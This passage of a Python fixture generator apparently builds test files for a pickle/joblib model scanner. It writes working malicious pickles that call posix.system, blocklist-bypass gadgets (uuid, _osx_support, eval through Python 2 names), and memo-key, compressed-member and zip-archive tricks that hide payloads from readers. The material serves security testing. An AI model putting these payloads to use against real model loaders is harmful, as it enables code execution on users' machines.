            self.add(f"forged_name_{label}.joblib", dump.patched(edits),
                     "forged_names", "malicious", raw, ["joblib"],
                     f"clf.n_jobs is a call of a STACK_GLOBAL from BINUNICODE strings whose name has "
                     f"{label.replace('_', ' ')} text ({name!r}): printed raw it forges or hides a "
                     "report line.")

    # 8 ------------------------------------------------------------------------------------------
    def allowed_globals_as_values(self):
        """An allowed global as an attribute's value, never called: it replaces a method."""
        from numpy._core.multiarray import _reconstruct
        import codecs
        values = [("ndarray", np.ndarray, "numpy.ndarray"),
                  ("codecs_encode", codecs.encode, "_codecs.encode"),
                  ("reconstruct", _reconstruct, "numpy._core.multiarray._reconstruct")]
        for label, value, name in values:
            model = refitted(iris_pipeline)
            model.steps[1][1].predict_proba = value
            path = os.path.join(self.out, f"predict_proba_{label}.joblib")
            joblib.dump(model, path)
            self.record(path, "allowed_globals_as_values", "malicious", name, ["joblib"],
                        f"LogisticRegression.predict_proba is set to {name}, an allow-listed global "
                        "used as a value: loading replaces the method.")
        model = refitted(iris_pipeline)
        model.steps[1][1].predict_proba = np.ndarray
        with open(os.path.join(self.out, "predict_proba_ndarray_p4.pkl"), "wb") as f:
            pickle.dump(model, f, protocol=4)
        self.record(f.name, "allowed_globals_as_values", "malicious", "numpy.ndarray",
                    ["joblib", "pickle", "pickle_py"],
                    "as predict_proba_ndarray.joblib, written by pickle.dump (protocol 4)")

    # 9 ------------------------------------------------------------------------------------------
    def memo_keys(self):
        """Text PUT/GET keys that Python's int() accepts."""
        system = b"cposix\nsystem\n"
        argument = b"(" + text(self.command) + b"tR."
        variants = [
            ("underscore", system + b"p9_001\n0g9_001\n" + argument,
             "PUT and GET with key 9_001 (int() reads 9001)"),
            ("underscore_mixed", system + b"p9_001\n0g9001\n" + argument,
             "PUT 9_001 then GET 9001: the same key for Python"),
            ("plus_space", system + b"p +7\n0g7\n" + argument, "PUT ' +7', GET 7"),
            ("leading_zeros", system + b"p007\n0g7\n" + argument, "PUT 007, GET 7"),
            ("overwrite", b"cnumpy\ndtype\np9001\n0" + system + b"p9_001\n0g9001\n" + argument,
             "memo 9001 first holds numpy.dtype; PUT 9_001 overwrites it with posix.system, which "
             "GET 9001 then calls (a reader keying by text calls numpy.dtype)"),
        ]
        for label, data, note in variants:
            self.add(f"memo_key_{label}.pkl", data, "memo_keys", "malicious", "posix.system",
                     ["joblib", "pickle", "pickle_py"], "protocol 0: " + note)
        # A memo key pickle.load makes an array of twice its size for (found by the fuzzer).
        clean = pickle.dumps(iris_pipeline(), protocol=2)
        assert clean[:2] == bytes([PROTO, 2])
        huge = clean[:2] + b"Nr" + struct.pack("<I", 0xFFFF_FFF0) + POP + clean[2:]
        self.add("memo_key_huge.pkl", huge, "memo_keys", "hostile", None, [],
                 "protocol 2: None put under memo key 2^32 - 16, then the pipeline. The "
                 "pure-Python unpickler keys a dict and loads it; pickle.load grows its memo array "
                 "to 2^33 entries and fails with MemoryError.")
        # A dict key Python cannot hash stops the load with a TypeError, before
        # the model is built (found by the fuzzer: a reader that ignores it accepts a file no
        # loader loads).
        state = next(op for op in walk(clean) if op.name == "EMPTY_DICT")
        after_put = next(op for op in walk(clean) if op.pos > state.pos).end
        nested = text("extra") + b"}]Nss"
        self.add("unhashable_dict_key.pkl", clean[:after_put] + nested + clean[after_put:], "memo_keys",
                 "hostile", None, [],
                 "protocol 2: the Pipeline's state given an attribute 'extra' holding a dict whose "
                 "key is a list (SETITEM), before its own items")
        # The pure-Python unpickler reads on past such a key: what follows runs, even when bytes
        # that are not opcodes come after it (found by the fuzzer).
        after = (clean[:2] + b"Nr" + struct.pack("<I", 0xFFFF_FFF0) + POP
                 + b"(" + text(self.command) + b"iposix\nsystem\n" + b"\r")
        self.add("memo_key_huge_then_call.pkl", after, "memo_keys", "malicious", "posix.system",
                 ["joblib", "pickle_py"],
                 "protocol 2: memo key 2^32 - 16, then INST posix.system with the command, then a "
                 "byte that is no opcode. joblib's unpickler calls system before the bad byte stops "
                 "it; pickle.load stops at the key with MemoryError.")

    # 10 -----------------------------------------------------------------------------------------
    def compressed_members(self):
        """A second compressed member after a clean joblib dump."""
        clean = JoblibFile(iris_pipeline())
        payload = bytes([PROTO, 4]) + system_call(self.command) + STOP
        members = [
            ("zlib_then_gzip", zlib.compress(clean.data) + gzip.compress(payload, mtime=0),
             "joblib's zlib reader never gets past the end of the first member (it spins, growing "
             "its unused input, until it runs out of memory or time)"),
            ("gzip_then_zlib", gzip.compress(clean.data, mtime=0) + zlib.compress(payload),
             "joblib's gzip reader never gets past the end of the first member (as for zlib)"),
            ("xz_then_bz2", lzma.compress(clean.data) + bz2.compress(payload),
             "lzma ignores a following member it cannot decode: joblib loads the clean pipeline"),
        ]
        members.append(
            ("zlib_then_clean_zlib", zlib.compress(clean.data) + zlib.compress(bytes([PROTO, 4]) + b"N."),
             "the second member is harmless, so only the rule against a second member refuses the "
             "file; joblib's zlib reader never gets past the first"))
        for label, data, note in members:
            second = "None" if label.endswith("clean_zlib") else "a payload pickle (posix.system)"
            self.add(f"member_{label}.joblib", data, "compressed_members", "hostile", None, [],
                     f"a clean joblib dump in the first member, {second} in the second, which no "
                     f"loader runs: {note}.")
        # joblib's lzma reader does go on into a second xz member: a dump whose STOP is moved
        # there, after a payload, runs it.
        [stop] = [op for op in clean.ops if op.name == "STOP"]
        first = clean.patched([(stop.pos, stop.end, b"")])
        second = system_call(self.command) + POP + STOP
        self.add("member_xz_split_then_xz.joblib", lzma.compress(first) + lzma.compress(second),
                 "compressed_members", "malicious", "posix.system", ["joblib"],
                 "a joblib dump without its STOP in a first xz member; the second xz member holds "
                 "a payload, POP and the STOP. joblib's lzma reader reads on across members.")

    # 11 -----------------------------------------------------------------------------------------
    def gadgets(self):
        """Globals missing from blocklists, each called with an argument."""
        marker, command = self.marker, self.command
        p4 = bytes([PROTO, 4])
        ndarray_1 = call(stack_global("numpy", "ndarray"), integer(1) + TUPLE1)
        cases = [
            ("uuid._get_command_stdout", call(stack_global("uuid", "_get_command_stdout"), text("touch"), text(marker)),
             "runs touch MARKER through subprocess"),
            ("_osx_support._read_output", call(stack_global("_osx_support", "_read_output"), text(command)),
             "runs the command through os.system"),
            ("_aix_support._read_cmd_output", call(stack_global("_aix_support", "_read_cmd_output"), text(command)),
             "runs the command in Python 3.12+ (absent from 3.11)"),
            ("_xxsubinterpreters.run_string",
             call(stack_global("_xxsubinterpreters", "run_string"), integer(0),
                  text(f"import os; os.system({command!r})")), "runs Python source"),
            ("imp.create_dynamic", call(stack_global("imp", "create_dynamic"), text(marker)),
             "loads a shared library"),
            ("unittest.mock.patch", call(stack_global("unittest.mock", "patch"), text("os.system")),
             "patches any attribute"),
            ("sqlite3.connect", call(stack_global("sqlite3", "connect"), text(marker)),
             "creates the file MARKER"),
            ("numpy.ndarray.dump", call(stack_global("numpy", "ndarray.dump"), ndarray_1, text(marker)),
             "a dotted name (protocol 4): writes a pickle to MARKER"),
            ("sklearn.datasets.fetch_openml", call(stack_global("sklearn.datasets", "fetch_openml"), text("iris")),
             "downloads a dataset"),
            ("time.sleep", call(stack_global("time", "sleep"), integer(3600)), "sleeps an hour"),
        ]
        for name, ops, note in cases:
            self.add(f"gadget_{name.replace('.', '_').strip('_')}.pkl", p4 + ops + STOP,
                     "gadgets", "malicious", name, ["joblib", "pickle", "pickle_py"], note)
        # Python 2 names, which the unpickler renames for protocols < 3 (after find_class
        # receives them).
        p2 = bytes([PROTO, 2])
        python2 = [
            ("__builtin__.eval", b"c__builtin__\neval\n(" + text(f"__import__('os').system({command!r})") + b"tR",
             "builtins.eval"),
            ("commands.getoutput", b"ccommands\ngetoutput\n(" + text(command) + b"tR", "subprocess.getoutput"),
            ("copy_reg._reconstructor",
             b"ccopy_reg\n_reconstructor\n(c__builtin__\nobject\nc__builtin__\nobject\nNtR", "copyreg._reconstructor"),
        ]
        for name, ops, renamed in python2:
            self.add(f"gadget_py2_{name.replace('.', '_').strip('_')}.pkl", p2 + ops + STOP,
                     "gadgets", "malicious", name, ["joblib", "pickle", "pickle_py"],
                     f"protocol 2 GLOBAL of a Python 2 name that the unpickler renames to {renamed}")

    # 12 -----------------------------------------------------------------------------------------
    def unknown_module(self):
        """A pipeline whose n_jobs calls a function of a module that exists nowhere."""
        module = types.ModuleType("onnxify_attack_module")

        def run(argument):
            raise AssertionError("never called")

        run.__module__, run.__qualname__ = module.__name__, "run"
        module.run = run
        sys.modules[module.__name__] = module
        try:
            model = refitted(iris_pipeline)
            model.steps[1][1].n_jobs = Payload(run, self.command)
            path = os.path.join(self.out, "unknown_module.joblib")
            joblib.dump(model, path)
        finally:
            del sys.modules[module.__name__]
        self.record(path, "unknown_module", "malicious", "onnxify_attack_module.run", ["joblib"],
                    "clf.n_jobs is a call of onnxify_attack_module.run, a module no installation has: "
                    "whoever installs one first decides what loading runs.")

    # 13 -----------------------------------------------------------------------------------------
    def codecs_not_latin1(self):
        """Protocol 2 spells bytes as _codecs.encode(text, 'latin1'); one call says 'utf-8'."""
        model = iris_pipeline()
        data = pickle.dumps(model, protocol=2)
        ops = walk(data)
        structure = Structure(ops)
        original = model.steps[1][1].intercept_.astype("<f8").tobytes()
        target = original.decode("latin-1")
        assert not target.isascii(), "the intercepts' bytes need non-ASCII characters"
        [i] = [i for i, op in enumerate(ops) if op.name == "BINUNICODE" and op.arg == target]
        assert ops[i + 1].name == "BINPUT" and ops[i + 2].name == "BINGET"
        assert structure.memo[ops[i + 2].arg] == "latin1", "a later call: 'latin1' comes from the memo"
        encoding = ops[i + 2]

        def rewritten(new_text):
            out = bytearray(data)
            out[encoding.pos : encoding.end] = text("utf-8")
            out[ops[i].pos : ops[i].end] = raw_text(new_text)
            return bytes(out)

        def call_at(pickled):
            """Where the REDUCE that calls _codecs.encode on the rewritten text is: after the
            arrays pickled before it, whose UTF-8 lengths vary with the fitted values (the
            last bits of a fit differ between machines)."""
            return next(op.pos for op in walk(pickled)[i:] if op.name == "REDUCE")

        # The same text: latin-1 gives the real intercepts, UTF-8 more bytes than 3 floats.
        same_text = rewritten(target.encode())
        self.add("codecs_utf8_same_text_p2.pkl", same_text, "codecs_not_latin1", "hostile",
                 None, [], "clf.intercept_'s bytes are _codecs.encode(text, 'utf-8') of the text that "
                 "'latin1' turns into the real intercepts: the loader gets more bytes than the array holds.",
                 at=call_at(same_text))
        # A text whose UTF-8 is 24 bytes: the loader gets three other intercepts (3297.5, 0,
        # 0) while latin-1 gives 21 bytes.
        loader_bytes = bytes([0, 0, 0, 0, 0, 0xC3, 0xA9, 0x40]) + bytes(16)
        assert len(loader_bytes) == len(original)
        other_values = rewritten(loader_bytes)
        self.add("codecs_utf8_other_values_p2.pkl", other_values, "codecs_not_latin1", "hostile",
                 None, [], "clf.intercept_ is _codecs.encode('\\0\\0\\0\\0\\0é@' + 16 NULs, 'utf-8'): "
                 f"the loader gets {[float(x) for x in np.frombuffer(loader_bytes, '<f8')]}, latin-1 would give 21 bytes.",
                 at=call_at(other_values))

    # 14 -----------------------------------------------------------------------------------------
    def archives(self):
        """PyTorch-style zip archives holding pickles."""
        payload = pickle.dumps(Payload(os.system, self.command), protocol=2)
        clean = pickle.dumps(iris_pipeline(), protocol=2)

        def archive(pickled, compression):
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w") as z:
                z.writestr(zipfile.ZipInfo("archive/data.pkl"), pickled, compress_type=compression)
                z.writestr(zipfile.ZipInfo("archive/version"), b"3\n")
                z.writestr(zipfile.ZipInfo("archive/data/0"), np.arange(4, dtype="<f4").tobytes())
            return buffer.getvalue()

        self.add("archive_payload.pt", archive(payload, zipfile.ZIP_STORED), "archives", "malicious",
                 "posix.system", [], "a zip archive as torch.save writes: archive/data.pkl calls "
                 "posix.system (torch.load would run it); joblib and pickle fail on the 'PK' header.")
        self.add("archive_clean_pipeline.pt", archive(clean, zipfile.ZIP_STORED), "archives", "control",
                 None, [], "the same archive layout holding a clean protocol-2 pickle of a fitted pipeline.")
        self.add("archive_deflated_payload.pkl", archive(payload, zipfile.ZIP_DEFLATED), "archives",
                 "malicious", "posix.system", [], "archive/data.pkl (payload) deflate-compressed, in a "
                 "file named .pkl: its opcodes are not visible in the raw bytes.")

    def all(self):
        for family in [self.dtype_flags, self.duplicate_keys, self.alignment_none, self.frames,
                       self.frame_filler, self.padding, self.list_shape, self.stateless_dtype,
                       self.nested_frame_leftover, self.globals_in_array_bytes,
                       self.short_frame,
                       self.nested_wrappers, self.plain_pickle, self.forged_names,
                       self.allowed_globals_as_values, self.memo_keys, self.compressed_members,
                       self.gadgets, self.unknown_module, self.codecs_not_latin1, self.archives]:
            family()
        return self.cases


def main():
    warnings.simplefilter("ignore", DeprecationWarning)
    out, marker = sys.argv[1], sys.argv[2]
    os.makedirs(out, exist_ok=True)
    json.dump(without_surrogates(Fixtures(out, marker).all()), sys.stdout)


if __name__ == "__main__":
    main()
